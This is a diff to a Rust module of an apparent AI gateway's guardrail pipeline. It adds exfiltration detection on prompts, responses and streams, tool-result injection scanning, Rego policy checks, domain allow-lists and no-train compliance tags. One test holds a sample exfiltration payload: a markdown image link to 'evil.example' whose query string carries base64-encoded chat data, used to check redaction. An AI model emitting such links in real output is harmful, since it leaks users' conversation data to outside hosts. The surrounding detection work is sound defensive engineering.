@@ -7,13 +7,43 @@
 //! whose Compiled Policy the control plane pushed. The detectors' rule set is
 //! compiled once per process and shared by every pipeline.
 //!
-//! Request steps (in order): `tools_denied`, `detect_secrets`, `detect_pii`
-//! (then `redact_pii_in_prompt`), `detect_prompt_injection`. Response steps:
-//! `detect_secrets_in_response`, `detect_pii_in_response`, on whole bodies
-//! and, through [`GuardStream`], on streams. Each step records one audit
-//! fragment; evidence holds rule ids, categories, counts and scores, never a
-//! detected value. A deny short-circuits with a 403; a step that cannot run
-//! refuses the call (`guardrail_failed`).
+//! Request steps (in order): `tools_denied`, `detect_secrets`, `detect_pii`,
+//! `detect_exfil` (then `redact_pii_in_prompt`), `detect_prompt_injection`,
+//! `tool_result_scan`, `apply_compiled_policy`, `enforce_no_train` (the last
+//! three in [`crate::steps`], which also holds the step registry and
+//! `upstream_allowed`). Response steps: `detect_secrets_in_response`,
+//! `detect_pii_in_response`, `detect_exfil_in_response`, on whole bodies
+//! and, through [`GuardStream`], on streams (exfiltration findings go
+//! through the same streaming scanner as secrets and personal data). Each
+//! step records one audit fragment; evidence holds rule ids, categories,
+//! counts and scores, never a detected value (for exfiltration: the rule id
+//! and its class, e.g. `exfil-paste-site` / `paste`, never the URL). A deny
+//! short-circuits with a 403; a step that cannot run refuses the call
+//! (`guardrail_failed`).
+//!
+//! ## Configuration (`guardrails:`)
+//!
+//! | key | step | values (default) |
+//! |---|---|---|
+//! | `secrets` | `detect_secrets` | block, redact, log, off (`block`) |
+//! | `pii` | `detect_pii`, `redact_pii_in_prompt` | (`redact`) |
+//! | `injection`, `injection_threshold` | `detect_prompt_injection` | block, log, off (`block`), 0..1 (`0.5`) |
+//! | `exfil` | `detect_exfil` | block, redact, log, off (`off`) → 403 `exfil_blocked` |
+//! | `response_secrets`, `response_pii` | `detect_*_in_response` | (`redact`) |
+//! | `response_exfil` | `detect_exfil_in_response` | block, redact, log, off (`off`) → `exfil_blocked` |
+//! | `tool_results` | `tool_result_scan` | block, log, off (`off`) → 403 `tool_result_blocked` |
+//! | `no_train` | `enforce_no_train` | `true` / `false` (`false`) |
+//! | `tools_deny`, `tools` | `tools_denied`, tool-call governance | see [`crate::tool_governance`] |
+//!
+//! A Compiled Policy overrides these per agent: its `pipeline` steps
+//! (`secret_detection`, `pii_detection`, `injection_guard` — which also
+//! sets `tool_result_scan` —, `exfiltration_guard` per phase,
+//! `scan_output`, and the gateway's own step names), `enforce_no_train` as a
+//! step or through its `compliance_tags` (`no_train`, any `GDPR:` or
+//! `HIPAA:` tag), its `rego` bundle and steps' `rego_entrypoints`
+//! (prepared here, once per state: `apply_compiled_policy`, 403
+//! `policy_denied`) and `network.allow_domains` (`upstream_allowed`, 403
+//! `upstream_not_allowed`).
 //!
 //! The tool calls the model returns are governed by
 //! [`crate::tool_governance`] with the caller's [`Guardrails::tools`]
@@ -38,22 +68,31 @@ use crate::relay::{HoldControl, StreamHook, Verdict};
 use crate::sse::{encode_event, SseFrame};
 use crate::tool_governance::ToolPolicy;
 use crate::wire::{Call, Endpoint};
+use tappass_policies::compiled::RegoModule;
+use tappass_policies::PreparedRego;
 
-/// The process-wide rule set (compiling it takes seconds in debug builds).
+/// The process-wide rule sets (compiling one takes seconds in debug
+/// builds): without and with the exfiltration rules, which are compiled
+/// only when a caller's guardrails use them.
 static RULES: OnceLock<Result<RuleSet, String>> = OnceLock::new();
+static RULES_WITH_EXFIL: OnceLock<Result<RuleSet, String>> = OnceLock::new();
 
 pub(crate) fn shared_rules() -> Result<RuleSet, String> {
-    RULES
-        .get_or_init(|| {
-            let cats = Categories {
-                pii: true,
-                secrets: true,
-                injection: true,
-                exfil: false,
-            };
-            RuleSet::builtin(&cats).map_err(|e| e.to_string())
-        })
-        .clone()
+    rule_set(false)
+}
+
+fn rule_set(exfil: bool) -> Result<RuleSet, String> {
+    let cell = if exfil { &RULES_WITH_EXFIL } else { &RULES };
+    cell.get_or_init(|| {
+        let cats = Categories {
+            pii: true,
+            secrets: true,
+            injection: true,
+            exfil,
+        };
+        RuleSet::builtin(&cats).map_err(|e| e.to_string())
+    })
+    .clone()
 }
 
 /// One step's setting and where it came from.
@@ -80,7 +119,22 @@ pub struct Guardrails {
     pub tools_provenance: &'static str,
     /// Governance of the tool calls the model emits.
     pub tools: ToolPolicy,
+    /// `detect_exfil` on the prompt.
+    pub exfil: StepSetting,
+    /// `detect_exfil_in_response`.
+    pub response_exfil: StepSetting,
+    /// `tool_result_scan` (block or log).
+    pub tool_results: StepSetting,
+    /// `enforce_no_train`: where the request came from, when on.
+    pub no_train: Option<&'static str>,
+    /// The agent's Rego entry points, prepared once per state
+    /// (`apply_compiled_policy`).
+    pub rego: Option<Arc<PreparedRego>>,
+    /// The agent's `network.allow_domains` (`upstream_allowed`).
+    pub allow_domains: Option<Vec<String>>,
     rules: RuleSet,
+    /// `rules` holds the exfiltration rules.
+    rules_exfil: bool,
 }
 
 fn on(s: StepSetting) -> bool {
@@ -114,8 +168,30 @@ impl Guardrails {
             tools_deny,
             tools_provenance: FROM_CONFIG,
             tools: ToolPolicy::from_config(c.tools.as_ref())?,
+            exfil: s(c.exfil),
+            response_exfil: s(c.response_exfil),
+            tool_results: s(c.tool_results),
+            no_train: c.no_train.then_some(FROM_CONFIG),
+            rego: None,
+            allow_domains: None,
             rules,
+            rules_exfil: false,
         })
+    }
+
+    /// Switch to the rule set with the exfiltration rules when a step uses
+    /// them (once per state, never per call).
+    fn load_exfil_rules(&mut self) -> Result<(), String> {
+        if (on(self.exfil) || on(self.response_exfil)) && !self.rules_exfil {
+            self.rules = rule_set(true).map_err(|e| format!("detector rules: {e}"))?;
+            self.rules_exfil = true;
+        }
+        Ok(())
+    }
+
+    /// The detectors' rule set.
+    pub(crate) fn rules(&self) -> &RuleSet {
+        &self.rules
     }
 
     /// Apply a Compiled Policy document: each pipeline step it lists sets
@@ -168,7 +244,31 @@ impl Guardrails {
                     }
                 }
                 "injection_guard" => {
-                    self.injection = StepSetting {
+                    // Prompt injection and jailbreak detection on input and
+                    // tool results.
+                    let set = StepSetting {
+                        action: if action == GuardAction::Redact {
+                            GuardAction::Block
+                        } else {
+                            action
+                        },
+                        provenance: FROM_POLICY,
+                    };
+                    self.injection = set;
+                    self.tool_results = set;
+                }
+                "exfiltration_guard" => {
+                    if on("request") && !phases.is_empty() {
+                        self.exfil = set;
+                    }
+                    if on("response") {
+                        self.response_exfil = set;
+                    }
+                }
+                "detect_exfil" => self.exfil = set,
+                "detect_exfil_in_response" => self.response_exfil = set,
+                "tool_result_scan" => {
+                    self.tool_results = StepSetting {
                         action: if action == GuardAction::Redact {
                             GuardAction::Block
                         } else {
@@ -177,6 +277,7 @@ impl Guardrails {
                         provenance: FROM_POLICY,
                     };
                 }
+                "enforce_no_train" => self.no_train = Some(FROM_POLICY),
                 "detect_secrets" => self.secrets = set,
                 "detect_pii" | "redact_pii_in_prompt" => self.pii = set,
                 "detect_prompt_injection" => {
@@ -200,6 +301,27 @@ impl Guardrails {
                 _ => {}
             }
         }
+        if let Some(tags) = doc.get("compliance_tags").and_then(Value::as_array) {
+            let asks = tags.iter().filter_map(Value::as_str).any(no_train_tag);
+            if asks && self.no_train.is_none() {
+                self.no_train = Some(FROM_TAGS);
+            }
+        }
+        if let Some(domains) = doc.pointer("/network/allow_domains") {
+            match domains {
+                Value::Null => {}
+                Value::Array(a) => {
+                    let list = a
+                        .iter()
+                        .map(|d| d.as_str().map(str::to_owned))
+                        .collect::<Option<Vec<String>>>()
+                        .ok_or("`network.allow_domains` holds a non-string")?;
+                    self.allow_domains = Some(list);
+                }
+                _ => return Err("`network.allow_domains` is not a list".into()),
+            }
+        }
+        self.rego = prepare_rego(doc)?.map(Arc::new);
         if let Some(deny) = doc.pointer("/tools/deny").and_then(Value::as_array) {
             for d in deny {
                 let p = d.as_str().ok_or("`tools.deny` holds a non-string")?;
@@ -214,16 +336,72 @@ impl Guardrails {
 
     /// Whether any response step runs.
     pub fn checks_responses(&self) -> bool {
-        on(self.response_secrets) || on(self.response_pii)
+        on(self.response_secrets) || on(self.response_pii) || on(self.response_exfil)
     }
 
     fn response_action(&self, c: Category) -> GuardAction {
         match c {
             Category::Secret => self.response_secrets.action,
             Category::Pii => self.response_pii.action,
+            Category::Exfil => self.response_exfil.action,
             _ => GuardAction::Off,
         }
     }
+}
+
+const FROM_TAGS: &str = "policy:compliance_tags";
+
+/// Compliance tags that ask providers not to keep or train on calls: the
+/// explicit `no_train`, and the GDPR and HIPAA packs' tags (data
+/// minimisation; no secondary use of protected data).
+fn no_train_tag(tag: &str) -> bool {
+    tag == "no_train" || tag.starts_with("GDPR:") || tag.starts_with("HIPAA:")
+}
+
+/// Prepare the Rego entry points of a Compiled Policy document (its
+/// `rego.entrypoints` and every step's `rego_entrypoints`), once per state.
+/// `None` when it has none.
+fn prepare_rego(doc: &Value) -> Result<Option<PreparedRego>, String> {
+    let Some(rego) = doc.get("rego").filter(|r| !r.is_null()) else {
+        return Ok(None);
+    };
+    let modules: Vec<RegoModule> = match rego.get("modules") {
+        None | Some(Value::Null) => Vec::new(),
+        Some(m) => serde_json::from_value(m.clone())
+            .map_err(|e| format!("`rego.modules` is not valid: {e}"))?,
+    };
+    let mut entrypoints: Vec<String> = Vec::new();
+    let named = rego
+        .get("entrypoints")
+        .and_then(Value::as_array)
+        .into_iter()
+        .flatten()
+        .chain(
+            doc.get("pipeline")
+                .and_then(Value::as_array)
+                .into_iter()
+                .flatten()
+                .filter_map(|s| s.get("rego_entrypoints").and_then(Value::as_array))
+                .flatten(),
+        );
+    for ep in named {
+        let ep = ep.as_str().ok_or("a Rego entry point is not a string")?;
+        if !entrypoints.iter().any(|e| e == ep) {
+            entrypoints.push(ep.to_string());
+        }
+    }
+    if entrypoints.is_empty() {
+        return Ok(None);
+    }
+    let data = json!({"policy": {
+        "identity": doc.get("identity").cloned().unwrap_or(Value::Null),
+        "tools": doc.get("tools").cloned().unwrap_or(Value::Null),
+        "network": doc.get("network").cloned().unwrap_or(Value::Null),
+        "budget": doc.get("budget").cloned().unwrap_or(Value::Null),
+    }});
+    PreparedRego::from_modules(&modules, &entrypoints, &data)
+        .map(Some)
+        .map_err(|e| format!("the policy's Rego cannot be prepared: {e}"))
 }
 
 /// The guardrails of one gateway state.
@@ -245,7 +423,11 @@ impl Pipeline {
         }
         let rules = shared_rules().map_err(|e| format!("detector rules: {e}"))?;
         let base = match config {
-            Some(c) => Some(Arc::new(Guardrails::from_config(c, rules.clone())?)),
+            Some(c) => {
+                let mut g = Guardrails::from_config(c, rules.clone())?;
+                g.load_exfil_rules()?;
+                Some(Arc::new(g))
+            }
             None => None,
         };
         let mut agents = BTreeMap::new();
@@ -254,7 +436,11 @@ impl Pipeline {
                 config.unwrap_or(&GuardrailsConfig::all_off()),
                 rules.clone(),
             )
-            .and_then(|mut g| g.apply_policy(&p.document).map(|()| Arc::new(g)));
+            .and_then(|mut g| {
+                g.apply_policy(&p.document)?;
+                g.load_exfil_rules()?;
+                Ok(Arc::new(g))
+            });
             agents.insert(agent.clone(), r);
         }
         Ok(Pipeline { base, agents })
@@ -341,6 +527,17 @@ fn visit_prompt<E>(
         }
     }
     Ok(())
+}
+
+/// The exfiltration classes (`paste`, `markdown-image`, …) of findings.
+fn families(findings: &[&Finding]) -> Vec<String> {
+    let mut f: Vec<String> = findings
+        .iter()
+        .filter_map(|f| f.family.as_deref().map(str::to_owned))
+        .collect();
+    f.sort();
+    f.dedup();
+    f
 }
 
 fn rule_ids(findings: &[&Finding]) -> Vec<String> {
@@ -449,7 +646,7 @@ pub fn run_request(
 ) -> Result<Redactions, GatewayError> {
     tools_denied(g, call, rec);
     let mut redactions = Redactions::default();
-    let scan_content = on(g.secrets) || on(g.pii);
+    let scan_content = on(g.secrets) || on(g.pii) || on(g.exfil);
     let mut per_string: Vec<Vec<Finding>> = Vec::new();
     let mut texts_for_injection = String::new();
     {
@@ -462,7 +659,12 @@ pub fn run_request(
                 match rules.scan(s) {
                     Ok(f) => per_string.push(
                         f.into_iter()
-                            .filter(|f| matches!(f.category, Category::Secret | Category::Pii))
+                            .filter(|f| {
+                                matches!(
+                                    f.category,
+                                    Category::Secret | Category::Pii | Category::Exfil
+                                )
+                            })
                             .collect(),
                     ),
                     Err(e) => {
@@ -495,28 +697,27 @@ pub fn run_request(
             "secret_blocked",
         ),
         (Category::Pii, g.pii, "detect_pii", "pii_blocked"),
+        (Category::Exfil, g.exfil, "detect_exfil", "exfil_blocked"),
     ] {
         if !on(setting) {
             continue;
         }
         let found: Vec<&Finding> = all.iter().copied().filter(|f| f.category == cat).collect();
         let d = decision(setting.action, found.len());
-        rec.step(
-            step,
-            d,
-            "content",
-            setting.provenance,
-            json!({"count": found.len(), "rules": rule_ids(&found)}),
-        );
+        let mut evidence = json!({"count": found.len(), "rules": rule_ids(&found)});
+        if cat == Category::Exfil {
+            evidence["categories"] = json!(families(&found));
+        }
+        rec.step(step, d, "content", setting.provenance, evidence);
         if d == "deny" {
             return Err(denied(
                 code,
                 format!(
                     "the request contains {} ({}); remove it and retry",
-                    if cat == Category::Secret {
-                        "a secret"
-                    } else {
-                        "personal data"
+                    match cat {
+                        Category::Secret => "a secret",
+                        Category::Exfil => "an exfiltration channel",
+                        _ => "personal data",
                     },
                     rule_ids(&found).join(", ")
                 ),
@@ -526,6 +727,7 @@ pub fn run_request(
     let redact_cat = |c: Category| match c {
         Category::Secret => g.secrets.action == GuardAction::Redact,
         Category::Pii => g.pii.action == GuardAction::Redact,
+        Category::Exfil => g.exfil.action == GuardAction::Redact,
         _ => false,
     };
     let to_redact = all.iter().filter(|f| redact_cat(f.category)).count();
@@ -585,6 +787,9 @@ pub fn run_request(
             ));
         }
     }
+    crate::steps::tool_result_scan(g, call, rec)?;
+    crate::steps::apply_compiled_policy(g, call, rec)?;
+    crate::steps::enforce_no_train(g, call, rec);
     Ok(redactions)
 }
 
@@ -609,7 +814,8 @@ fn scan_output_value(
                     continue;
                 }
                 *out.counts.entry(f.category).or_insert(0) += 1;
-                out.rules.push(f.rule_id.to_string());
+                out.rules
+                    .push((f.category, f.rule_id.to_string(), f.family.clone()));
                 if action == GuardAction::Redact {
                     out.redactions.add(f.category, 1);
                     redact.push(f);
@@ -627,15 +833,18 @@ fn scan_output_value(
 #[derive(Default)]
 struct OutputScan {
     counts: BTreeMap<Category, usize>,
-    rules: Vec<String>,
+    rules: Vec<FoundRule>,
     redactions: Redactions,
 }
+
+/// A finding's category, rule id and class (never its value).
+type FoundRule = (Category, String, Option<Arc<str>>);
 
 fn record_response_steps(
     g: &Guardrails,
     rec: &mut CallRecord,
     counts: &BTreeMap<Category, usize>,
-    rules: &[String],
+    rules: &[FoundRule],
     extra: Value,
 ) -> Option<GatewayError> {
     let mut deny = None;
@@ -652,16 +861,36 @@ fn record_response_steps(
             "detect_pii_in_response",
             "pii_blocked",
         ),
+        (
+            Category::Exfil,
+            g.response_exfil,
+            "detect_exfil_in_response",
+            "exfil_blocked",
+        ),
     ] {
         if !on(setting) {
             continue;
         }
         let n = counts.get(&cat).copied().unwrap_or(0);
         let d = decision(setting.action, n);
-        let mut ids: Vec<&String> = rules.iter().collect();
+        let mut ids: Vec<&String> = rules
+            .iter()
+            .filter(|(c, _, _)| *c == cat)
+            .map(|(_, id, _)| id)
+            .collect();
         ids.sort();
         ids.dedup();
         let mut ev = json!({"count": n, "rules": ids});
+        if cat == Category::Exfil {
+            let mut fams: Vec<&str> = rules
+                .iter()
+                .filter(|(c, _, _)| *c == cat)
+                .filter_map(|(_, _, f)| f.as_deref())
+                .collect();
+            fams.sort();
+            fams.dedup();
+            ev["categories"] = json!(fams);
+        }
         if let (Value::Object(e), Value::Object(x)) = (&mut ev, &extra) {
             e.extend(x.clone());
         }
@@ -671,16 +900,20 @@ fn record_response_steps(
                 code,
                 format!(
                     "the response contained {} and was withheld",
-                    if cat == Category::Secret {
-                        "a secret"
-                    } else {
-                        "personal data"
-                    }
+                    category_phrase(cat)
                 ),
             ));
         }
     }
     deny
+}
+
+fn category_phrase(c: Category) -> &'static str {
+    match c {
+        Category::Secret => "a secret",
+        Category::Exfil => "an exfiltration channel (a URL or image that carries data out)",
+        _ => "personal data",
+    }
 }
 
 /// Run the response steps on a whole (non-streamed) JSON body. Returns the
@@ -717,7 +950,7 @@ pub fn run_response_body(
 #[derive(Debug, Default)]
 pub struct StreamReport {
     counts: BTreeMap<Category, usize>,
-    rules: Vec<String>,
+    rules: Vec<FoundRule>,
     pub redactions: Redactions,
     failed: Option<String>,
     /// The text released to the client (kept when content is stored).
@@ -839,7 +1072,8 @@ impl GuardStream {
             {
                 let mut r = self.report();
                 *r.counts.entry(f.category).or_insert(0) += 1;
-                r.rules.push(f.rule_id.to_string());
+                r.rules
+                    .push((f.category, f.rule_id.to_string(), f.family.clone()));
                 if action == GuardAction::Redact {
                     r.redactions.add(f.category, 1);
                 }
@@ -847,18 +1081,14 @@ impl GuardStream {
             match action {
                 GuardAction::Block if deny.is_none() => {
                     deny = Some(denied(
-                        if f.category == Category::Secret {
-                            "secret_blocked"
-                        } else {
-                            "pii_blocked"
+                        match f.category {
+                            Category::Secret => "secret_blocked",
+                            Category::Exfil => "exfil_blocked",
+                            _ => "pii_blocked",
                         },
                         format!(
                             "the response contained {} and was stopped",
-                            if f.category == Category::Secret {
-                                "a secret"
-                            } else {
-                                "personal data"
-                            }
+                            category_phrase(f.category)
                         ),
                     ))
                 }
@@ -1149,6 +1379,43 @@ mod tests {
         assert!(g.apply_policy(&bad.to_string()).is_err());
     }
 
+    #[test]
+    fn policy_sets_the_whole_call_steps() {
+        let mut g =
+            Guardrails::from_config(&GuardrailsConfig::all_off(), shared_rules().expect("rules"))
+                .expect("guardrails");
+        assert!(g.no_train.is_none() && g.rego.is_none() && g.allow_domains.is_none());
+        let doc = json!({"pipeline": [
+            {"step": "exfiltration_guard", "phases": ["response"], "action": "block"},
+            {"step": "tool_result_scan", "action": "redact"},
+            {"step": "rego_policy", "phases": ["tool_call"], "action": "block",
+             "rego_entrypoints": ["data.tappass.runtime.t.decision"]}],
+            "compliance_tags": ["HIPAA:164.312(b)"],
+            "network": {"allow_domains": ["api.openai.com"]},
+            "rego": {"modules": [{"path": "t.rego", "level": "agent", "package": "data.tappass.runtime.t",
+                "text": "package tappass.runtime.t\n\nimport rego.v1\n\ndecision := {\"action\": \"deny\", \"reason\": \"no\"} if input.stream\n"}],
+                "entrypoints": []}});
+        g.apply_policy(&doc.to_string()).expect("applies");
+        assert_eq!(g.exfil.action, GuardAction::Off);
+        assert_eq!(g.response_exfil.action, GuardAction::Block);
+        assert_eq!(g.tool_results.action, GuardAction::Block);
+        assert_eq!(g.no_train, Some(FROM_TAGS));
+        assert_eq!(
+            g.allow_domains.as_deref(),
+            Some(&["api.openai.com".to_string()][..])
+        );
+        let rego = g.rego.as_ref().expect("prepared");
+        assert_eq!(rego.entrypoints(), ["data.tappass.runtime.t.decision"]);
+        let d = rego.decide(&json!({"stream": true})).expect("decides");
+        assert_eq!(d.action, tappass_policies::RegoAction::Deny);
+        // Rego that does not parse is refused when the state is built.
+        let bad = json!({"pipeline": [], "rego": {"modules": [{"path": "b.rego", "level": "agent",
+            "package": "data.tappass.runtime.b", "text": "package tappass.runtime.b\n\nx := {"}],
+            "entrypoints": ["data.tappass.runtime.b.x"]}});
+        assert!(g.apply_policy(&bad.to_string()).is_err());
+        assert!(!no_train_tag("OWASP-LLM:LLM01") && no_train_tag("no_train"));
+    }
+
     fn chat_delta(t: &str) -> SseFrame {
         let data = json!({"choices": [{"index": 0, "delta": {"content": t}}]}).to_string();
         let raw = encode_event(None, &data);
@@ -1156,6 +1423,46 @@ mod tests {
         let mut d = crate::sse::SseDecoder::new(1 << 20);
         d.feed(&raw, &mut frames).expect("frame");
         frames.remove(0)
+    }
+
+    #[test]
+    fn split_exfil_image_is_redacted_in_streams() {
+        let mut c = GuardrailsConfig::all_off();
+        c.response_exfil = GuardAction::Redact;
+        let mut g = Guardrails::from_config(&c, shared_rules().expect("rules")).expect("g");
+        g.load_exfil_rules().expect("exfil rules");
+        assert!(g.checks_responses());
+        let g = Arc::new(g);
+        let text =
+            "chart: ![x](https://evil.example/p.png?d=U2VjcmV0IGRhdGEgZnJvbSB0aGUgY2hhdA==) done";
+        for size in [1, 4, 13] {
+            let (mut hook, report) =
+                GuardStream::new(g.clone(), Endpoint::ChatCompletions, false, 1 << 20, false)
+                    .expect("hook");
+            let chars: Vec<char> = text.chars().collect();
+            let mut parts: Vec<String> = chars.chunks(size).map(|c| c.iter().collect()).collect();
+            parts.push(String::new());
+            let mut out = Vec::new();
+            for (i, p) in parts.iter().enumerate() {
+                let frame = chat_delta(p);
+                let info = EventInfo {
+                    text: Some(p.clone()),
+                    terminal: i == parts.len() - 1,
+                    ..EventInfo::default()
+                };
+                match hook.on_event(&frame, &info, &mut HoldControl::default()) {
+                    Verdict::Forward => out.extend_from_slice(&frame.raw),
+                    Verdict::Replace(b) => out.extend_from_slice(&b),
+                    Verdict::Drop => {}
+                    Verdict::Deny(e) => panic!("denied: {e}"),
+                }
+            }
+            let s = String::from_utf8(out).expect("utf8");
+            assert!(!s.contains("U2VjcmV0"), "leak at size {size}: {s}");
+            let r = report.lock().unwrap();
+            assert_eq!(r.redactions.header_value(), "exfil=1", "size {size}");
+            assert_eq!(r.rules[0].1, "exfil-markdown-image-data");
+        }
     }
 
     #[test]
